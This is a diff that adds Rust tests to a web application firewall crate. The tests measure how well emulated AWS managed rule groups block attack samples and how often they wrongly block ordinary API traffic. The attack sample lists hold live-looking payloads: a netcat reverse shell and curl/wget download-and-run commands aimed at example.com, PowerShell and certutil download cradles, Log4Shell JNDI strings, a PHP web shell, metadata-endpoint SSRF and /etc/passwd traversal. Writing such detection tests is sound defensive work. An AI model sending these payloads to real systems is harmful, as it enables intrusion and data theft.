@@ -443,3 +443,355 @@ fn crs_misses() {
         }
     }
 }
+
+/// An ACL of one AWS managed group (this crate's equivalent), blocking.
+fn managed_acl(group: &str) -> WafLayer {
+    let acl = json!({"Name": "managed", "DefaultAction": {"Allow": {}}, "Rules": [
+        {"Name": group, "Priority": 0, "OverrideAction": {"None": {}}, "VisibilityConfig": vc(),
+         "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": group}}}]});
+    WafLayer::from_json(&acl.to_string()).unwrap()
+}
+
+const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
+
+fn request(method: &str, uri: &str, body: &str) -> Request<Vec<u8>> {
+    Request::builder()
+        .method(method)
+        .uri(uri)
+        .header("host", "api.example.com")
+        .header("user-agent", BROWSER)
+        .header("accept", "application/json")
+        .body(body.as_bytes().to_vec())
+        .unwrap()
+}
+
+/// Ordinary API traffic, written here: reads with query strings, searches
+/// with apostrophes and punctuation, JSON and form bodies, paths with ids.
+fn ordinary_requests() -> Vec<Request<Vec<u8>>> {
+    let names = [
+        "O'Brien",
+        "D'Angelo",
+        "Zoë Saldaña",
+        "Jean-Luc Picard",
+        "Anne-Marie d'Arcy",
+        "李小龍",
+        "Robert'); DROP TABLE Students;-- (xkcd fan)",
+    ];
+    let searches = [
+        "rock 'n' roll",
+        "fish & chips",
+        "c++ tutorials",
+        "100% cotton",
+        "select a seat",
+        "union station",
+        "where is my order",
+        "sleep mask",
+        "dir sale",
+        "type c cable",
+        "cat toys",
+        "echo dot",
+        "system of a down",
+        "include vat?",
+        "1/2 price",
+        "$5 off",
+        "a<b and c>d",
+        "email: jane@example.com",
+        "https://example.com/page",
+        "../readme",
+    ];
+    let mut out = Vec::new();
+    for i in 0..50 {
+        out.push(request(
+            "GET",
+            &format!("/loyalty/C-{i}/get?customer=C-{i}&fields=points"),
+            "",
+        ));
+        out.push(request(
+            "GET",
+            &format!(
+                "/v1/orders/{}/items?limit=20&offset={}&sort=-created_at",
+                1000 + i,
+                i * 20
+            ),
+            "",
+        ));
+        out.push(request(
+            "DELETE",
+            &format!("/v1/sessions/{:x}", 0xdead_beef_u64 + i as u64),
+            "",
+        ));
+    }
+    for s in searches {
+        let q: String =
+            percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC)
+                .to_string();
+        out.push(request("GET", &format!("/search?q={q}&page=1"), ""));
+        out.push(request(
+            "POST",
+            "/search",
+            &json!({"query": s, "filters": {"in_stock": true}}).to_string(),
+        ));
+    }
+    for n in names {
+        out.push(request("POST", "/v1/customers", &json!({"name": n, "email": "someone@example.com", "address": {"line1": "12 Baker St.", "city": "London", "postcode": "NW1 6XE"}, "notes": "Call after 5pm; use side door (blue)."}).to_string()));
+        let form: String =
+            percent_encoding::utf8_percent_encode(n, percent_encoding::NON_ALPHANUMERIC)
+                .to_string();
+        out.push(request(
+            "POST",
+            "/signup",
+            &format!("name={form}&password=Tr0ub4dor%263&remember=on"),
+        ));
+    }
+    out.push(request("POST", "/v1/events", &json!({"type": "page_view", "url": "https://www.example.com/products/42?ref=home", "ts": 1_717_171_717, "ua": BROWSER}).to_string()));
+    out.push(request("PUT", "/v1/profile/avatar", &"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==".repeat(20)));
+    out
+}
+
+/// Attack samples written here from each rule's public description, for the
+/// groups the shared corpora do not cover. Each is sent where the group
+/// inspects it: `q` as a query argument and as a JSON body value, a path as
+/// the path.
+fn own_attacks(group: &str) -> Vec<Request<Vec<u8>>> {
+    let (values, paths): (&[&str], &[&str]) = match group {
+        "AWSManagedRulesCommonRuleSet" => (
+            &[
+                "http://169.254.169.254/latest/meta-data/",
+                "../../../../etc/passwd",
+                "..\\..\\windows\\win.ini",
+                "http://198.51.100.7/shell.txt",
+                "file://192.0.2.1/share",
+                "<script>alert(1)</script>",
+                "<svg onload=alert(1)>",
+                "backup.sql",
+                "settings.ini",
+                "http://2852039166/latest/user-data",
+            ],
+            &[
+                "/a/../../../etc/passwd",
+                "/logs/app.log",
+                "/proxy/169.254.169.254/latest/meta-data/",
+            ],
+        ),
+        "AWSManagedRulesKnownBadInputsRuleSet" => (
+            &[
+                "${jndi:ldap://example.com/a}",
+                "${${lower:j}ndi:rmi://example.com/x}",
+                "${${::-j}${::-n}${::-d}${::-i}:dns://example.com/}",
+                "(java.lang.Runtime).getRuntime().exec(\"id\")",
+                "T(java.lang.Runtime).getRuntime().exec('whoami')",
+                "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
+                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+            ],
+            &[
+                "/WEB-INF/web.xml",
+                "/app/META-INF/MANIFEST.MF",
+                "/.git/config",
+                "/${jndi:ldap://example.com/a}",
+            ],
+        ),
+        "AWSManagedRulesLinuxRuleSet" => (
+            &[
+                "/proc/self/environ",
+                "/etc/shadow",
+                "/proc/version",
+                "/var/log/auth.log",
+                "/etc/passwd",
+                "/root/.bash_history",
+            ],
+            &["/download/proc/self/cmdline", "/static/etc/passwd"],
+        ),
+        "AWSManagedRulesUnixRuleSet" => (
+            &[
+                "; cat /etc/passwd",
+                "| id",
+                "`whoami`",
+                "$(uname -a)",
+                "x && wget http://example.com/a.sh",
+                "echo $HOME",
+                "${IFS}cat${IFS}/etc/passwd",
+                "; nc -e /bin/sh example.com 4444",
+                "|| curl example.com | sh",
+            ],
+            &[],
+        ),
+        "AWSManagedRulesWindowsRuleSet" => (
+            &[
+                "||nslookup example.com",
+                ";cmd /c dir",
+                "& whoami",
+                "| net user",
+                "powershell -enc SQBFAFgA",
+                "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.com/a')",
+                "IEX(iwr http://example.com)",
+                "%COMSPEC% /c ver",
+                "& certutil -urlcache -f http://example.com/a.exe a.exe",
+            ],
+            &[],
+        ),
+        "AWSManagedRulesPHPRuleSet" => (
+            &[
+                "<?php system($_GET['c']); ?>",
+                "fsockopen(\"example.com\",4444)",
+                "php://filter/convert.base64-encode/resource=index.php",
+                "shell_exec('id')",
+                "eval(base64_decode('ZWNobyAxOw=='))",
+                "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+                "$_SERVER['HTTP_HOST']",
+                "phpinfo()",
+                "passthru('ls')",
+            ],
+            &[],
+        ),
+        "AWSManagedRulesWordPressRuleSet" => (
+            &["do-reset-wordpress"],
+            &[
+                "/xmlrpc.php",
+                "/wp-config.php.bak",
+                "/wp-admin/install.php",
+                "/wp-content/debug.log",
+                "/blog/xmlrpc.php",
+            ],
+        ),
+        "AWSManagedRulesAdminProtectionRuleSet" => (
+            &[],
+            &[
+                "/admin",
+                "/admin/users",
+                "/phpmyadmin/index.php",
+                "/sqlmanager/",
+                "/manager/html",
+                "/administrator/index.php",
+                "/wp-admin/",
+            ],
+        ),
+        _ => (&[], &[]),
+    };
+    let mut out = Vec::new();
+    for v in values {
+        let q: String =
+            percent_encoding::utf8_percent_encode(v, percent_encoding::NON_ALPHANUMERIC)
+                .to_string();
+        out.push(request("GET", &format!("/items?q={q}"), ""));
+        if group != "AWSManagedRulesWordPressRuleSet" && group != "AWSManagedRulesLinuxRuleSet" {
+            // Both inspect the query string and the path, not the body.
+            out.push(request("POST", "/items", &json!({"q": v}).to_string()));
+        }
+    }
+    for p in paths {
+        let encoded: String = p
+            .split('/')
+            .map(|seg| {
+                percent_encoding::utf8_percent_encode(seg, percent_encoding::NON_ALPHANUMERIC)
+                    .to_string()
+            })
+            .collect::<Vec<_>>()
+            .join("/");
+        out.push(request("GET", &encoded, ""));
+    }
+    out
+}
+
+/// Per managed group: the detection rate on the attack samples relevant to
+/// it, and the false-positive rate on benign traffic (libinjection's
+/// `false_positives.txt`, as a form body and as a query string, and
+/// ordinary API requests). Printed for the README; the asserts are floors.
+#[test]
+fn managed_groups_detection_and_false_positives() {
+    let Some(dir) = corpora() else { return };
+    let sqli = lines(&dir, "sqli-");
+    let xss = lines(&dir, "xss-");
+    let benign_lines = lines(&dir, "false_positives");
+    let mut benign: Vec<Request<Vec<u8>>> = Vec::new();
+    for line in &benign_lines {
+        benign.push(request("POST", "/", line));
+        if let Ok(r) = Request::builder()
+            .uri(format!("/?q={}", line.replace(' ', "+")))
+            .header("host", "api.example.com")
+            .header("user-agent", BROWSER)
+            .body(Vec::new())
+        {
+            benign.push(r);
+        }
+    }
+    let ordinary = ordinary_requests();
+    let blocks =
+        |layer: &WafLayer, r: &Request<Vec<u8>>| layer.evaluate(r).action() == WafAction::Block;
+    for group in portcullis_waf::managed::available() {
+        let layer = managed_acl(group);
+        let mut report = format!("{group}:");
+        if group == "AWSManagedRulesSQLiRuleSet" {
+            let hit = sqli
+                .iter()
+                .filter(|s| blocks(&layer, &request("POST", "/", s)))
+                .count();
+            report.push_str(&format!(
+                " libinjection sqli-* {hit}/{} ({:.2}%);",
+                sqli.len(),
+                pct(hit, sqli.len())
+            ));
+            assert!(pct(hit, sqli.len()) >= 95.0);
+            let r = replay(
+                &dir,
+                "REQUEST-942-APPLICATION-ATTACK-SQLI",
+                &layer,
+                "942100",
+            );
+            report.push_str(&format!(
+                " CRS 942 attacks {}/{} ({:.1}%);",
+                r.caught,
+                r.attacks,
+                pct(r.caught, r.attacks)
+            ));
+        }
+        if group == "AWSManagedRulesCommonRuleSet" {
+            let hit = xss
+                .iter()
+                .filter(|s| blocks(&layer, &request("POST", "/", s)))
+                .count();
+            report.push_str(&format!(
+                " libinjection xss-* {hit}/{} ({:.2}%);",
+                xss.len(),
+                pct(hit, xss.len())
+            ));
+            assert!(pct(hit, xss.len()) >= 90.0);
+            let r = replay(&dir, "REQUEST-941-APPLICATION-ATTACK-XSS", &layer, "941100");
+            report.push_str(&format!(
+                " CRS 941 attacks {}/{} ({:.1}%);",
+                r.caught,
+                r.attacks,
+                pct(r.caught, r.attacks)
+            ));
+        }
+        let own = own_attacks(group);
+        if !own.is_empty() {
+            let hit = own.iter().filter(|r| blocks(&layer, r)).count();
+            report.push_str(&format!(
+                " own samples {hit}/{} ({:.1}%);",
+                own.len(),
+                pct(hit, own.len())
+            ));
+            assert!(pct(hit, own.len()) >= 80.0, "{report}");
+        }
+        let fp = benign.iter().filter(|r| blocks(&layer, r)).count();
+        let fp_api = ordinary.iter().filter(|r| blocks(&layer, r)).count();
+        for r in ordinary.iter().filter(|r| blocks(&layer, r)) {
+            println!(
+                "  {group} flags an ordinary request: {} {} {}",
+                r.method(),
+                r.uri(),
+                String::from_utf8_lossy(r.body())
+            );
+        }
+        report.push_str(&format!(
+            " false positives: false_positives.txt {fp}/{} ({:.2}%), ordinary API requests {fp_api}/{} ({:.2}%)",
+            benign.len(),
+            pct(fp, benign.len()),
+            ordinary.len(),
+            pct(fp_api, ordinary.len())
+        ));
+        println!("{report}");
+        assert!(pct(fp_api, ordinary.len()) <= 1.0, "{report}");
+        assert!(pct(fp, benign.len()) <= 5.0, "{report}");
+    }
+}
